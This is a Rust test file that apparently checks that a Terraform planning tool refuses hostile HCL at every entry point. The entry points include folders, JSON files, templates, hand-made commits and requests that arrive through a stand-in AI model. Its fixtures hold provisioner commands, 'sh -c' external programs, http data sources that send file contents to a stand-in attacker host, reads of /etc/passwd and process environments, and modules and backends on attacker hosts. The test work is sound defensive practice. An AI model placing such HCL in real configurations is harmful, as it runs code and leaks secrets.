//! Attacks by HCL that runs, fetches or hands over (P35 to P39), through every door by which HCL comes in.
//! HCL stands in an existing folder, in a template, or is committed by hand to a component's folder.
//! Must never be refused late: nothing is initialised, fetched or written for it.

use super::puppet::{Puppet, call, words};
use super::rig::{Egress, HELLO, NOTE};
use crate::kit::scene::{Finished, Scene};
use crate::kit::terraform::{Terraform, resources_of};
use crate::kit::world::Repository;
use rstest::rstest;
use std::path::{Path, PathBuf};

/// What would tell that it ran: a file of that name anywhere in the scene.
const RAN: &str = "RAN";

/// A scene in which `dev` knows the folder `evil`, with nothing in its way but us.
fn scene(egress: &Egress) -> Option<(Scene, PathBuf)> {
    let terraform = Terraform::each().into_iter().next()?;
    let mut scene =
        Scene::with_config(&terraform.config_with("[environments.dev.terraform.roots]\nevil = \"{root}/evil\"\n"));
    egress.watch(&mut scene);
    let folder = scene.path("evil");
    std::fs::create_dir_all(&folder).unwrap();
    Some((scene, folder))
}

/// `{ran}` is a command that leaves the file, `{attacker}` an address that writes down who comes.
fn fill(text: &str, scene: &Scene, egress: &Egress) -> String {
    let ran = format!("touch {}", scene.path(RAN).display());
    text.replace("{ran}", &ran).replace("{attacker}", &egress.place)
}

fn write(folder: &Path, name: &str, text: &str) {
    let path = folder.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn listed(folder: &Path) -> Vec<String> {
    let found = std::process::Command::new("find").arg(folder).args(["-type", "f"]).output().unwrap();
    let mut found: Vec<_> = String::from_utf8_lossy(&found.stdout).lines().map(str::to_owned).collect();
    found.sort();
    found
}

#[track_caller]
fn refused(finished: &Finished, codes: &[&str]) {
    assert!(![Some(0), Some(4)].contains(&finished.code), "{}", finished.words());
    assert!(codes.iter().any(|code| finished.words().contains(code)), "{codes:?}: {}", finished.words());
}

/// The folder with that file, through all doors: by its path, by its name in words and from a model.
fn every_door(name: &str, text: &str, codes: &[&str]) {
    let egress = Egress::listen();
    let Some((mut scene, folder)) = scene(&egress) else { return };
    write(&folder, name, &fill(text, &scene, &egress));
    if name != "main.tf" {
        write(&folder, "main.tf", "module \"inner\" {\n  source = \"./inner\"\n}\n");
        write(&folder, "inner/ok.tf", "locals {\n  a = 1\n}\n");
    }
    let before = listed(&folder);
    let finished = scene.run(&["--json", "plan", folder.to_str().unwrap()]);
    refused(&finished, codes);
    if codes == ["CM-4028"] {
        let line = 1 + text.lines().position(|line| line.contains("#!")).unwrap_or_default();
        assert!(finished.words().contains(&format!("{name}, line {line}")), "line {line}: {}", finished.words());
    }
    refused(&scene.run(&["--json", "ask", "plan the evil folder"]), codes);
    let config = std::fs::read_to_string(scene.path("home/.config/chopmark/config.toml")).unwrap();
    let puppet = Puppet::says(vec![call("propose_root", serde_json::json!({"name": "evil"})), words("Planned.")]);
    puppet.serve(&mut scene, &config);
    scene.run(&["--json", "ask", "plan the evil folder"]);
    let waiting = scene.sql("select count(*) from changes where state in ('awaiting_approval', 'approved')").unwrap();
    assert_eq!(waiting[0][0], "0", "a model got it through");
    assert_eq!(listed(&folder), before, "something was initialised");
    assert!(!scene.path(RAN).exists(), "it ran");
    egress.is_silent();
}

#[rstest]
#[case::in_a_resource(
    "main.tf",
    "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" { #!\n    command = \"{ran}\"\n  }\n}\n"
)]
#[case::remote(
    "main.tf",
    "resource \"terraform_data\" \"x\" {\n  provisioner \"remote-exec\" { #!\n    inline = [\"{ran}\"]\n  }\n}\n"
)]
#[case::when_it_goes(
    "main.tf",
    "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" { #!\n    when = destroy\n    command = \"{ran}\"\n  }\n}\n"
)]
#[case::dynamic(
    "main.tf",
    "resource \"terraform_data\" \"x\" {\n  dynamic \"provisioner\" { #!\n    for_each = [1]\n    content {}\n  }\n}\n"
)]
#[case::in_a_module(
    "inner/main.tf",
    "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" { #!\n    command = \"{ran}\"\n  }\n}\n"
)]
#[case::in_a_removed_block(
    "main.tf",
    "removed {\n  from = terraform_data.x\n  provisioner \"local-exec\" { #!\n    when = destroy\n    command = \"{ran}\"\n  }\n}\n"
)]
#[case::in_an_override(
    "z_override.tf",
    "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" { #!\n    command = \"{ran}\"\n  }\n}\n"
)]
#[case::as_an_action("main.tf", "action \"local_command\" \"x\" { #!\n  config {\n    command = \"{ran}\"\n  }\n}\n")]
#[case::for_credentials(
    "main.tf",
    "provider \"kubernetes\" {\n  exec { #!\n    api_version = \"v1\"\n    command = \"{ran}\"\n  }\n}\n"
)]
fn p35_a_provisioner_is_refused_before_anything_starts(#[case] name: &str, #[case] text: &str) {
    every_door(name, text, &["CM-4028"]);
}

#[rstest]
#[case(
    "{\"resource\": {\"terraform_data\": {\"x\": {\"provisioner\": [{\"local-exec\": {\"command\": \"{ran}\"}}]}}}}"
)]
#[case("{\"data\": {\"external\": {\"x\": {\"program\": [\"sh\", \"-c\", \"{ran}\"]}}}}")]
#[case("{\"module\": {\"m\": {\"source\": \"git::http://{attacker}/m.git\"}}}")]
#[case("{\"terraform\": {\"cloud\": {\"organization\": \"x\"}}}")]
fn p35_to_p39_the_same_as_json_is_refused(#[case] text: &str) {
    let egress = Egress::listen();
    let Some((scene, folder)) = scene(&egress) else { return };
    for name in ["main.tf.json", "x_override.tf.json", "main.tofu.json"] {
        let _ = std::fs::remove_dir_all(&folder);
        write(&folder, "main.tf", "resource \"terraform_data\" \"x\" {}\n");
        write(&folder, name, &fill(text, &scene, &egress));
        let before = listed(&folder);
        refused(&scene.run(&["--json", "plan", folder.to_str().unwrap()]), &["CM-40"]);
        assert_eq!(listed(&folder), before, "something was initialised");
    }
    assert!(!scene.path(RAN).exists(), "it ran");
    egress.is_silent();
}

#[rstest]
#[case::external("data \"external\" \"x\" { #!\n  program = [\"sh\", \"-c\", \"{ran}\"]\n}\n")]
#[case::http("data \"http\" \"x\" { #!\n  url = \"http://{attacker}/?q=${file(\"main.tf\")}\"\n}\n")]
#[case::another_state(
    "data \"terraform_remote_state\" \"x\" { #!\n  backend = \"http\"\n  config = { address = \"http://{attacker}/s\" }\n}\n"
)]
#[case::inside_a_check(
    "check \"x\" {\n  data \"http\" \"y\" { #!\n    url = \"http://{attacker}/\"\n  }\n  assert {\n    condition = true\n    error_message = \"x\"\n  }\n}\n"
)]
#[case::a_file("locals {\n  a = file(\"/etc/passwd\") #!\n}\n")]
#[case::the_environment("output \"x\" {\n  value = file(\"/proc/self/environ\") #!\n}\n")]
#[case::beside_the_folder("locals {\n  a = templatefile(\"../secret\", {}) #!\n}\n")]
fn p36_data_that_runs_or_reaches_out_is_refused_before_anything_starts(#[case] text: &str) {
    every_door("main.tf", text, &["CM-4028"]);
}

#[rstest]
#[case("git::http://{attacker}/m.git")]
#[case("http://{attacker}/m.zip")]
#[case("github.com/attacker/m")]
#[case("attacker/m/aws")]
#[case("../outside")]
#[case("/etc")]
#[case("./inner/../../outside")]
#[case("s3::http://{attacker}/m.zip")]
#[case("oci://{attacker}/m")]
fn p37_a_module_from_elsewhere_is_refused_and_nothing_is_fetched(#[case] source: &str) {
    every_door("main.tf", &format!("module \"m\" {{ #!\n  source = \"{source}\"\n}}\n"), &["CM-4028"]);
}

#[rstest]
#[case::required(
    "terraform {\n  required_providers {\n    evil = {\n      source = \"attacker/evil\"\n    }\n  }\n}\nresource \"evil_x\" \"x\" {}\n"
)]
#[case::implied("resource \"evil_x\" \"x\" {}\n")]
#[case::another_registry(
    "terraform {\n  required_providers {\n    evil = {\n      source = \"{attacker}/a/evil\"\n    }\n  }\n}\nresource \"evil_x\" \"x\" {}\n"
)]
#[case::a_function_of_it(
    "terraform {\n  required_providers {\n    evil = {\n      source = \"attacker/evil\"\n    }\n  }\n}\noutput \"x\" {\n  value = provider::evil::run(\"id\")\n}\n"
)]
fn p38_a_provider_that_is_not_listed_is_refused_and_nothing_is_fetched(#[case] text: &str) {
    every_door("main.tf", text, &["CM-4021", "CM-4028", "CM-4029"]);
}

#[rstest]
#[case::remote("terraform {\n  backend \"remote\" { #!\n    hostname = \"attacker.example\"\n  }\n}\n")]
#[case::cloud("terraform {\n  cloud { #!\n    organization = \"x\"\n  }\n}\n")]
#[case::encryption_by_command(
    "terraform {\n  encryption {\n    key_provider \"external\" \"x\" { #!\n      command = [\"sh\", \"-c\", \"{ran}\"]\n    }\n  }\n}\n"
)]
fn p39_a_backend_that_takes_the_work_elsewhere_is_refused(#[case] text: &str) {
    every_door("main.tf", text, &["CM-4028"]);
}

#[test]
fn p39_a_folders_own_backend_is_reached_on_no_port_that_nobody_opened() {
    let egress = Egress::listen();
    let Some((scene, _)) = scene(&egress) else { return };
    let folder = scene.path("work/cloned");
    write(
        &folder,
        "main.tf",
        &fill("terraform {\n  backend \"http\" {\n    address = \"http://{attacker}/s\"\n  }\n}\n", &scene, &egress),
    );
    let finished = scene.run(&["--json", "plan", folder.to_str().unwrap()]);
    assert!(![Some(0), Some(4)].contains(&finished.code), "{}", finished.words());
    egress.is_silent();
}

/// What a template may not hold, even one that its author trusts.
#[rstest]
#[case("  provisioner \"local-exec\" {\n    command = \"{ran}\"\n  }\n", "")]
#[case("", "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"{ran}\"]\n}\n")]
#[case("", "data \"http\" \"x\" {\n  url = \"http://{attacker}/\"\n}\n")]
#[case("", "module \"m\" {\n  source = \"git::https://attacker.example/m.git\"\n}\n")]
#[case("", "terraform {\n  required_providers {\n    evil = { source = \"attacker/evil\" }\n  }\n}\n")]
#[case("", "terraform {\n  backend \"http\" {\n    address = \"https://attacker.example/s\"\n  }\n}\n")]
#[case("", "terraform {\n  cloud {}\n}\n")]
#[case("", "provider \"aws\" {\n  secret_key = \"x\"\n}\n")]
#[case("", "output \"x\" {\n  value = file(\"/etc/passwd\")\n}\n")]
#[case("", "resource \"aws_iam_role\" \"x\" {}\n")]
#[case("", "import {\n  to = terraform_data.this\n  id = \"x\"\n}\n")]
fn p35_to_p39_a_template_that_holds_it_does_not_load(#[case] inside: &str, #[case] beside: &str) {
    let egress = Egress::listen();
    let Some((scene, _)) = scene(&egress) else { return };
    let folder = scene.path("work/mine/memo");
    write(
        &folder,
        "template.toml",
        "version = 1\nscope = \"main\"\nverify = \"second_plan\"\nkinds = [\"terraform/terraform_data\"]\n[terraform]\n\
         [title]\nen = \"Memo\"\nzh = \"便条\"\n[summary]\nen = \"A memo.\"\nzh = \"便条。\"\n\
         [words]\nen = [\"memo\"]\nzh = [\"便条\"]\n",
    );
    let resource =
        format!("resource \"terraform_data\" \"this\" {{\n  input = {{{{ component.name }}}}\n{inside}}}\n{beside}");
    write(&folder, "files/main.tf", &fill(&resource, &scene, &egress));
    let versions = "terraform {\n  required_version = \">= 1.4.0\"\n}\n";
    let expected = resource.replace("{{ component.name }}", "\"memo\"");
    let example = format!(
        "group = \"main\"\ncomponent = \"memo\"\nsentence = {{ en = \"memo\", zh = \"便条\" }}\nvalues = {{}}\n[expected]\n\
         \"main.tf\" = '''\n{}'''\n\"versions.tf\" = '''\n{versions}'''\n",
        fill(&expected, &scene, &egress)
    );
    write(&folder, "examples/one.toml", &example);
    let finished = scene.run(&["templates", "check", folder.to_str().unwrap()]);
    assert_ne!(finished.code, Some(0), "{}", finished.words());
    assert!(finished.words().contains("main.tf:"), "file and line: {}", finished.words());
    assert!(!scene.path(RAN).exists(), "it ran");
    egress.is_silent();
}

#[test]
fn p35_to_p39_the_rig_of_templates_loads_when_nothing_is_wrong_with_it() {
    // What the attack above leaves out is all that is missing for success.
    let scene = Scene::new();
    let shipped = concat!(env!("CARGO_MANIFEST_DIR"), "/templates/terraform/note");
    let copied = std::process::Command::new("cp").arg("-r").arg(shipped).arg(scene.path("work/memo")).status().unwrap();
    assert!(copied.success());
    scene.run(&["templates", "check", scene.path("work/memo").to_str().unwrap()]).ended(0);
}

#[test]
fn p35_hcl_committed_by_hand_to_a_component_is_neither_planned_nor_brought_back() {
    let egress = Egress::listen();
    let Some((scene, _)) = scene(&egress) else { return };
    let first = scene.carry_out(NOTE);
    let repository = Repository::at(&scene.data().join("repositories/dev"));
    let evil = fill("  provisioner \"local-exec\" {\n    command = \"{ran}\"\n  }\n  input = {", &scene, &egress);
    repository.commit_by_hand(&format!("{HELLO}/main.tf"), "  input = {", &evil);
    // Deleting needs the version that is there; drift plans it; an edit renders anew; undo brings the one before.
    for arguments in [
        vec!["--json", "ask", "delete hello in dev"],
        vec!["--json", "drift", "dev"],
        vec!["--json", "undo", first.as_str()],
        vec!["--json", "ask", "set hello's text to \"two\""],
    ] {
        let finished = scene.run(&arguments);
        if finished.code == Some(4) {
            let change = crate::kit::scene::change_of(&finished.events());
            scene.run(&["approve", &change, "--confirm", "hello"]);
        }
        assert!(!scene.path(RAN).exists(), "{arguments:?} ran it");
    }
    // An undo of what came after would bring the evil version back.
    if let Some(last) =
        scene.sql("select id from changes where state = 'succeeded' order by number desc").unwrap().first()
        && last[0] != first
    {
        let finished = scene.run(&["--json", "undo", &last[0]]);
        if finished.code == Some(4) {
            scene.run(&["approve", &crate::kit::scene::change_of(&finished.events()), "--confirm", "hello"]);
        }
    }
    assert!(!scene.path(RAN).exists(), "undo ran it");
    assert!(resources_of(&scene, HELLO).len() <= 1);
    egress.is_silent();
}
